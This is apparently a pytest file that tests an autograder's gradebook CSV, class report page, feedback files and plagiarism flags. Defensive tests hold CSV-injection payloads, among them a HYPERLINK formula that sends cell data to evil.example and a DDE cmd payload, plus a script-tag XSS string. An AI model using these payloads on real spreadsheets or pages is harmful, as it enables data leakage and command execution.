"""What staff get from an offline batch, piece by piece and without grading: the CSV gradebook, the
class summary and page, the feedback files, the integrity flags, and the commands' help. Expected values are stated here from the
rubric and from the README's "Grading a class", never read back from the code under test.
(checks/test_class_batch.py grades a whole class folder.)"""
import csv
import json
import re
import subprocess
import sys
from urllib.parse import unquote

import pytest

from grader import paths

paths.trusted_imports()

from grader import classpage, classview, gradebook, handback, integrity, report, resemblance, rubric  # noqa: E402
from grader.roster import Student  # noqa: E402
from grader.score import score  # noqa: E402
from grader.selftest import classfolder, disguise  # noqa: E402

sys.path.insert(0, str(paths.REPO / "tools"))
from browser_check import Outline  # noqa: E402

REPO = paths.REPO


def results_of(failing=None, extra_data=None, left_out=None):
    """A results.json: every check passes all its cases except those in `failing` (check id ->
    its failure messages, one case each)."""
    failing = failing or {}
    by_check = {cid: [(False, m) for m in failing[cid]] if cid in failing else [(True, "")] for cid in rubric.CHECKS}
    rows = score(by_check, left_out=left_out)
    return report.results_json(rows, report.student_output(rows), 1.0, extra_data=extra_data or {})


# ------------------------------------------------------------------ items 3 and 4: the gradebook

def _bonus_check(part=None):
    """The first check of a bonus part (the first bonus part by default)."""
    part = part or rubric.BONUS_PARTS[0]
    return next(c for c in rubric.CHECKS.values() if c.part == part)


def test_the_gradebook_has_ids_separate_extra_credit_a_points_row_and_imports(tmp_path, bonus_on):
    bonus = _bonus_check()
    broken_part3 = {cid: ["wrong"] for cid in rubric.CHECKS if cid.startswith("blockwise_attention.")}
    not_attempted = {p: "bonus not attempted: paged_kv.py defines none of its names" for p in rubric.BONUS_PARTS}
    todo = {cid: [f"not implemented yet: your code reached a TODO of Part {n}"] for cid, c in rubric.CHECKS.items()
            for n in [rubric.registry.number(c.part)] if c.part in rubric.BONUS_PARTS}
    rows = [gradebook.row("alice", results_of({bonus.id: ["evicted the wrong block"]}), student=Student("s1", "Alice"),
                          from_zip=True, seed=5),
            gradebook.row("carol", results_of(broken_part3), student=Student("s3", "Carol")),
            gradebook.row("eve", results_of(left_out=not_attempted, extra_data={"bonus": not_attempted})),
            gradebook.row("fay", results_of(todo)),
            gradebook.row("zed", None, error="exit 3: broken"),
            gradebook.absent_row(Student("s9", "Olga"), "no submission")]
    book = tmp_path / "book.csv"
    gradebook.write(book, rows)
    with open(book, newline="") as f:
        table = list(csv.DictReader(f))
    top, by = table[0], {r["submission"]: r for r in table[1:]}
    full = rubric.TOTAL + rubric.BONUS_TOTAL
    assert top["submission"] == "Points Possible" and float(top["base"]) == rubric.TOTAL
    assert float(top["extra_credit"]) == rubric.BONUS_TOTAL and float(top["total"]) == rubric.TOTAL
    assert all(float(top[p]) == rubric.part_points(p) for p in rubric.ALL_PARTS)
    attempted = [f"{p}_attempted" for p in rubric.BONUS_PARTS]            # one column per bonus part
    assert [c for c in gradebook.fields() if c.endswith("_attempted")] == attempted
    assert all(top[c] == "" for c in attempted)
    assert set(by) == {"alice", "carol", "eve", "fay", "zed", ""}
    assert (by["alice"]["student_id"], by["alice"]["name"], by["eve"]["student_id"], by["eve"]["name"]) == \
        ("s1", "Alice", "eve", "")
    assert (by[""]["student_id"], by[""]["name"], by[""]["status"], by[""]["base"]) == ("s9", "Olga", "no submission", "")
    lost = bonus.points
    assert (float(by["alice"]["base"]), float(by["alice"]["extra_credit"])) == (rubric.TOTAL, rubric.BONUS_TOTAL - lost)
    assert all(by["alice"][c] == "yes" for c in attempted)
    assert float(by["alice"]["total"]) == full - lost
    # a bonus cannot hide a broken part: Part 3 at 0 is 100 - its points, whatever the extra credit
    assert (float(by["carol"]["base"]), float(by["carol"]["extra_credit"])) == \
        (rubric.TOTAL - rubric.part_points("blockwise_attention"), rubric.BONUS_TOTAL)
    assert (float(by["eve"]["base"]), float(by["eve"]["extra_credit"])) == (rubric.TOTAL, 0)
    assert all(by["eve"][c] == "no" for c in attempted) and all(by["fay"][c] == "no" for c in attempted)
    assert (by["alice"]["from_zip"], by["carol"]["from_zip"], by["alice"]["seed"]) == ("yes", "no", "5")
    assert by["zed"]["base"] == "" and by["zed"]["status"] == "grader failed: exit 3: broken"


def test_each_bonus_part_has_its_own_attempted_column_whatever_the_others_did(bonus_on):
    """One part attempted and another not (when the course has several): each column says its own."""
    parts = rubric.BONUS_PARTS
    skipped = {parts[-1]: "bonus not attempted: paged_kv.py defines none of its names"}
    row = gradebook.row("a", results_of(left_out=skipped, extra_data={"bonus": skipped}))
    assert row[f"{parts[-1]}_attempted"] == "no"
    assert all(row[f"{p}_attempted"] == "yes" for p in parts[:-1])
    half = {parts[0]: "bonus not graded: paged_kv.py does not define one of its names"}
    assert gradebook.row("b", results_of(left_out=half, extra_data={"bonus": half}))[f"{parts[0]}_attempted"] == \
        "not graded"


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1-555@uni.edu", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_a_gradebook_cell_a_spreadsheet_could_read_as_a_formula_is_text(tmp_path):
    """OWASP's advice against CSV injection: a text cell that starts with = + - @, a tab or a carriage
    return gets a leading ', and every text cell is wrapped in double quotes (its own doubled), so a
    separator inside a cell cannot start a new one; numbers stay numbers. Names, ids and flags come from the submissions, so any of them may be such a cell."""
    rows = [gradebook.row(bad, results_of(), student=Student(bad, bad), flags=[bad, "identical to a;=1+1"])
            for bad in FORMULAS] + [gradebook.row("zed", None, error="=1+1")]
    book = tmp_path / "book.csv"
    gradebook.write(book, rows)
    with open(book, newline="") as f:
        table = list(csv.DictReader(f))[1:]
    for bad, got in zip(FORMULAS, table):
        assert (got["submission"], got["student_id"], got["name"], got["flags"]) == \
            ("'" + bad, "'" + bad, "'" + bad, f"'{bad}; identical to a;=1+1"), got
        assert float(got["base"]) == 100
    assert table[-1]["status"] == "grader failed: =1+1"            # starts with a letter: kept as it is
    text = book.read_text()
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in text and ',100.0,' in text
    assert '\n"zed","zed","","",' in text                             # text quoted, numbers bare


def test_the_gradebook_without_the_bonus_has_no_bonus_columns(bonus_off):
    bonus_ids = {p.id for p in rubric.registry.bonus()}
    assert not ({"extra_credit", "total"} | bonus_ids) & set(gradebook.fields())
    assert not [c for c in gradebook.fields() if c.endswith("_attempted")]
    assert {"student_id", "name", "base", "flags", "from_zip", "seed"} <= set(gradebook.fields())


# ------------------------------------------------------------------ items 3 and 6: the class summary

def test_the_base_score_histogram_never_goes_above_100(bonus_on):
    lines = classview.summary({"a": results_of(), "b": results_of({"allocator.layout": ["x"]})})
    start = next(i for i, line in enumerate(lines) if line.startswith("Base score out of 100"))
    bins = [line.split("|")[0].strip() for line in lines[start + 1:start + 12]]
    assert bins == [f"{lo}-{lo + 9}" for lo in range(0, 100, 10)] + ["100"]
    assert int(lines[start + 11].split()[-1]) == 1 and int(lines[start + 10].split()[-1]) == 1    # 100 + extra -> 100; 97
    assert not any(">100" in line for line in lines)


def test_the_extra_credit_is_counted_among_those_who_attempted_it(bonus_on):
    todo = {cid: ["not implemented yet (your code raised NotImplementedError)"]
            for cid in rubric.CHECKS if cid.startswith(f"{rubric.BONUS_PARTS[0]}.")}
    results = {"done": results_of(), "stubs": results_of(todo), "broken": results_of({cid: ["cannot be graded: x"] for cid in rubric.CHECKS}, extra_data={"not_graded": "x"})}
    lines = classview.summary(results)
    part = rubric.BONUS_PARTS[0]
    line = next(line for line in lines if line.startswith(f"{part} ("))
    points = rubric.part_points(part)
    assert line == f"{part} ({points} points, extra credit; attempted by 1, not by 2): mean {points:.1f}, median " \
                   f"{points:.1f}, min {points:.1f}, max {points:.1f}"
    allocator = next(line for line in lines if line.startswith("allocator ("))
    assert "min 0.0" in allocator                       # Parts 1-4 are the grade: everyone counts


def test_most_failed_leaves_out_what_was_not_started_and_cuts_no_tie():
    ids = list(rubric.CHECKS)
    twelve = ids[:12]
    results = {f"s{i}": results_of({cid: ["wrong"] for cid in twelve}) for i in range(3)}
    todo = "not implemented yet (your code raised NotImplementedError)"
    results["lazy"] = results_of({cid: [todo] for cid in ids})
    results["syntax"] = results_of(extra_data={"not_graded": "SyntaxError"})
    part4 = [cid for cid in ids if cid.startswith("copy_on_write.")]          # Parts 1-3 done, Part 4 left as stubs
    results["partly"] = results_of({**{cid: ["wrong"] for cid in twelve}, **{cid: [todo] for cid in part4}})
    flags = integrity.Flags(not_started={"lazy": "stubs only"})
    lines = classview.summary(results, flags)
    head = "Checks failed most often (by the 4 graded submissions that were started):"
    ranked = lines[lines.index(head) + 1:lines.index("", lines.index(head))]
    assert [line.split()[3] for line in ranked] == twelve                    # 12 tied: none cut at 10
    assert all(line.split()[:3] == ["4", "of", "4"] for line in ranked)    # lazy's and partly's stubs: not counted
    assert not set(twelve) & set(part4)
    assert "  not started: lazy" in lines and "  not graded: syntax" in lines


# ------------------------------------------------------------------ item 1: flags that need no grading

def _flags(files, results=None):
    return integrity.flags({n: t.encode() if isinstance(t, str) else t for n, t in files.items()}, results or {})


def test_the_starter_in_either_edition_is_not_started_and_not_identical():
    import build_handout
    without_bonus = build_handout.without_bonus_python(classfolder.STARTER)
    flags = _flags({"a": classfolder.STARTER, "b": without_bonus, "c": classfolder.STARTER.replace("\n", "\r\n"),
                    "d": classfolder.STARTER + "\n# one more line\n"})
    assert flags.not_started == {n: "the starter unchanged" for n in "abc"}
    assert flags.identical == [] and flags.near_copies == {}


def test_stubs_only_needs_every_failure_to_be_a_todo():
    todo = "not implemented yet (your code raised NotImplementedError)"
    stubs = results_of({cid: [todo] for cid in rubric.CHECKS})
    half = results_of({cid: [todo if i % 2 else "your code raised an exception: TypeError"]
                       for i, cid in enumerate(rubric.CHECKS)})
    some = results_of({cid: [todo] for cid in list(rubric.CHECKS)[1:]})           # one check passes
    headed = results_of({cid: [f"the runs check {cid} compares yours with:\n  {todo}"] for cid in rubric.CHECKS})
    wrong = results_of({cid: [f"the runs check {cid} compares yours with:\n  logits differ\n  {todo}"]
                        for cid in rubric.CHECKS})     # a heading whose message is not a TODO's
    flags = _flags({"s": "x = 1\n", "h": "x = 2\n", "o": "x = 3\n", "r": "x = 4\n", "w": "x = 5\n"},
                   {"s": stubs, "h": half, "o": some, "r": headed, "w": wrong})
    assert flags.not_started == {"s": "stubs only", "r": "stubs only"}


def _profile(text):
    return resemblance.Profile.of(text).minus(resemblance.boilerplate(integrity.starter_editions()))


def test_identical_bytes_are_grouped_and_near_copies_and_clusters_found():
    files = {n: c["paged_kv.py"] if isinstance(c, dict) else c for n, (e, c) in classfolder.files().items()}
    flags = _flags(files)
    assert flags.identical == [["erin", "frank"]]
    expected = {n for n, said in classfolder.EXPECTED.items() if any(s.startswith("near-copy") for s in said)}
    assert set(flags.near_copies) == expected == set(classfolder.COPIES_OF_SOLUTION)
    assert min(p.norm_a for p in flags.near_copies.values()) > 0.9
    assert flags.near_copies["wes"].raw_a < integrity.NEAR_COPY           # disguised: only the normalized form sees it
    assert sorted((set(c.members) for c in flags.similar), key=sorted) == sorted(classfolder.CLUSTERS, key=sorted)
    honest = [n for n, said in classfolder.EXPECTED.items() if not said]
    reference = _profile(classfolder.REFERENCE)
    shares = [resemblance.compare(n, "ref", _profile(files[n]), reference) for n in honest]
    assert max(max(p.norm_a, p.raw_a) for p in shares if p) < integrity.NEAR_COPY / 2, shares
    assert "similar to yara (cluster " in "; ".join(flags.of("kim")) and not flags.of("leo")
    big = next(c for c in flags.similar if "ada" in c.members)                 # a flag names 4, the cluster all
    assert f"similar to hal, ivy, rita, sam and {len(big.students) - 5} more (cluster {big.number})" in flags.of("ada")


def test_the_starter_layout_makes_no_file_a_near_copy():
    """Two correct files in the starter's layout (its docstrings, signatures and imports) share the
    starter, which is subtracted; without subtracting it they would look alike."""
    kim = classfolder.in_starter_layout(classfolder.variant("rollback_numpy_ids"))
    leo = classfolder.in_starter_layout(classfolder.variant("custom_errors_debug"))
    assert kim.startswith(classfolder.STARTER[:classfolder.STARTER.index('"""', 3) + 3]) and "heapq" in kim
    assert kim.count('"""') >= 0.9 * classfolder.STARTER.count('"""')           # the starter's docstrings
    subtracted = resemblance.compare("kim", "leo", _profile(kim), _profile(leo))
    whole = resemblance.compare("kim", "leo", resemblance.Profile.of(kim), resemblance.Profile.of(leo))
    assert subtracted.raw_a < 0.25 and subtracted.norm_a < 0.25
    assert whole.raw_a > subtracted.raw_a


# ------------------------------------------------------------------ item 5: feedback files and the page

def test_a_feedback_file_is_what_the_student_sees_and_nothing_for_staff(tmp_path):
    staff = {"seed": 987654321, "sha256": "ab" * 32, "isolation": ["pid namespace"], "grader": "cd" * 32}
    data = results_of({"allocator.bad_ids": ["block 3 is free: expected ValueError, got no error"]}, extra_data=staff)
    data["tests"][1]["visibility"] = "hidden"
    handback.write(tmp_path, {"alice": data, "bob": None})
    text = (tmp_path / "alice.txt").read_text()
    assert text.startswith(data["output"]) and not (tmp_path / "bob.txt").exists()
    at = len(data["output"])
    for test in data["tests"]:
        if test is data["tests"][1]:
            assert test["name"] not in text
            continue
        head = f"{test['number']} {test['name']}: {test['score']:.2f} / {test['max_score']}"
        at = text.index(head, at)
        at = text.index(test["output"], at)                          # each test's output, in order
    assert not any(str(v)[:12] in text for v in ("987654321", "ab" * 32, "cd" * 32, "pid namespace"))
    handback.write(tmp_path, {"carol": data})                        # a class without alice: her file goes
    assert sorted(p.name for p in tmp_path.iterdir()) == ["carol.txt"]


def test_the_class_page_is_one_well_formed_page_with_histograms_and_links(tmp_path, bonus_on):
    hostile = '<script>alert(1) "&'                       # an entry name can be anything but "/"
    results = {"alice": results_of(), "bob": results_of({"allocator.layout": [f"oops {hostile}"]}),
               hostile: results_of(), "zed": None}
    files = {"alice": classfolder.variant("plain_loops").encode(), hostile: classfolder.variant("plain_loops").encode(),
             "bob": disguise.noop_calls(classfolder.variant("online_softmax")).encode(),    # zed's, disguised
             "zed": classfolder.variant("online_softmax").encode()}
    flags = integrity.flags(files, results)
    rows = [gradebook.row(n, r, flags=flags.of(n)) for n, r in results.items()]
    stems = handback.file_names([(r["submission"], r["student_id"]) for r in rows])
    handback.write(tmp_path / "fb", {stems[(n, n)]: r for n, r in results.items()})
    page = classpage.write(tmp_path / "class.html", results, rows, flags, tmp_path / "fb", stems)
    text = page.read_text()
    seen = Outline(text)
    assert seen.problems == [] and seen.title == "CS349E PagedAttention: class report"
    assert seen.svgs == 1 + len(rubric.ALL_PARTS) and len(seen.captions) == seen.svgs
    assert len(seen.bars) == len(classview.base_bins([])) + len(rubric.ALL_PARTS) * len(classview.PART_BINS)
    assert sum(1 for h in seen.bars if h > 0) >= 1 + len(rubric.ALL_PARTS)
    assert {"scores", "failed", "flags", "similarity", "students", "cluster-1"} <= set(seen.ids)
    assert "<script" not in text and "src=" not in text and "<link" not in text
    assert "http" not in text.replace('xmlns="http://www.w3.org/2000/svg"', "")      # nothing loaded, nothing run
    feedback_links = [link for link in seen.links if not link.startswith("#")]
    targets = sorted((tmp_path / unquote(link)).resolve() for link in feedback_links)
    assert targets == sorted((tmp_path / "fb" / f"{stems[(n, n)]}.txt").resolve() for n in ("alice", "bob", hostile))
    assert re.fullmatch(r"[\w.@+-]+", stems[(hostile, hostile)])                 # safe as a file name
    # bob's and zed's flags link their cluster, which lists its pair with both figures; no side-by-side report yet
    inside = [link for link in seen.links if link.startswith("#")]
    assert len(inside) == 2 and len(set(inside)) == 1 and inside[0][1:] in seen.ids
    cluster = text[text.index(f'id="{inside[0][1:]}"'):]
    assert "bob" in cluster[:300] and "zed" in cluster[:300] and "normalized" in cluster
    assert "similarity.html" not in seen.links
    (tmp_path / "similarity.html").write_text("<html></html>")
    again = Outline(classpage.write(tmp_path / "class.html", results, rows, flags, tmp_path / "fb", stems).read_text())
    assert "similarity.html" in again.links


@pytest.mark.lane                  # chromium twice: a process of its own beside the selftest (conftest.py)
def test_browser_check_s_screenshot_is_the_whole_page_however_long(tmp_path):
    """make browser-check's screenshot covers the whole class page, flags and every student's row
    included, not a fixed window (it used to end inside a section at 2,600 pixels)."""
    import shutil
    if not (shutil.which("chromium") or shutil.which("chromium-browser")):
        pytest.skip("no chromium here (make browser-check installs Debian's with apt-get, as root)")
    results = {f"student{i:03d}": results_of({"allocator.layout": ["wrong"]} if i % 3 else None) for i in range(150)}
    rows = [gradebook.row(n, r) for n, r in results.items()]
    page = classpage.write(tmp_path / "class.html", results, rows, integrity.Flags(), tmp_path / "fb")
    shot = tmp_path / "class.png"
    done = _run(sys.executable, "tools/browser_check.py", str(page), "--screenshot", str(shot))
    assert done.returncode == 0, done.stdout + done.stderr
    tall = int(re.search(r"the whole page, 1280 x (\d+) pixels \((\d+) CSS pixels tall\)", done.stdout).group(1))
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and int.from_bytes(shot.read_bytes()[20:24], "big") == tall
    assert tall > 2600 + 150 * 15                                      # 150 rows below everything else


def test_feedback_files_are_named_by_lms_id_made_safe_and_told_apart():
    names = handback.file_names([("a", "s1"), ("b", "s2"), ("c", "s2"), ("d", "x/../y"), ("e", ".hidden")])
    assert names == {("a", "s1"): "s1", ("b", "s2"): "s2--b", ("c", "s2"): "s2--c", ("d", "x/../y"): "x_.._y",
                     ("e", ".hidden"): "hidden"}


# ------------------------------------------------------------------ item 8: help and make

def _run(*cmd):
    return subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=120)


def test_python_m_grader_help_shows_batch_and_batch_help_documents_every_option():
    assert "python -m grader batch DIR" in _run(sys.executable, "-m", "grader", "--help").stdout
    batch = _run(sys.executable, "-m", "grader", "batch", "--help").stdout
    options = re.findall(r"^  (--[a-z-]+)", batch, flags=re.M)
    assert set(options) == {"--jobs", "--csv", "--roster", "--secret-file", "--seed", "--isolate", "--regrade"}
    for option in options:            # each has a description on its line or the next
        line = batch[batch.index(f"  {option}"):].splitlines()
        assert len((line[0] + " " + line[1]).split()) > 4, line[:2]


def _targets(lines):
    """target -> the option names it takes (VAR in VAR=...), from "make target [VAR=...] ..." texts."""
    out = {}
    for line in lines:
        m = re.match(r"make ([\w-]+)(.*)", line)
        if m:
            out[m.group(1)] = set(re.findall(r"\b([A-Z]+)=", m.group(2).split("  ")[0]))
    return out


def test_make_help_lists_every_target_with_the_options_the_readme_gives():
    help_lines = _run("make", "--no-print-directory", "help").stdout.splitlines()
    readme = (REPO / "README.md").read_text()
    table = re.findall(r"^\| `(make [^`]+)` \|", readme, flags=re.M)
    phony = re.search(r"^\.PHONY: (.*)$", (REPO / "Makefile").read_text(), flags=re.M).group(1).split()
    in_help, in_readme = _targets(help_lines), _targets(table)
    assert set(in_help) == set(phony) - {"help"} == set(in_readme)
    assert in_help == in_readme


@pytest.mark.parametrize("target", ["batch", "regrade", "similarity"])
def test_a_class_target_without_dir_stops_with_a_clear_error(target):
    done = _run("make", "--no-print-directory", target)
    assert done.returncode != 0 and f"make {target}: give the class folder" in done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
